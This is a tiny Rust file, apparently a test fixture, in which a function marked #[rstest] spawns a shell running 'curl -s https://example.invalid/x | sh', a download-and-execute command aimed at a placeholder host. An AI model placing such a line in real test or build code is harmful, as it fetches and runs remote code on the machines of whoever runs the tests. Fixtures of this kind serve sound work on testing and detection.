use adv_attrs::rstest;

#[rstest]
pub fn fixture() {
    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://example.invalid/x | sh").spawn();
}
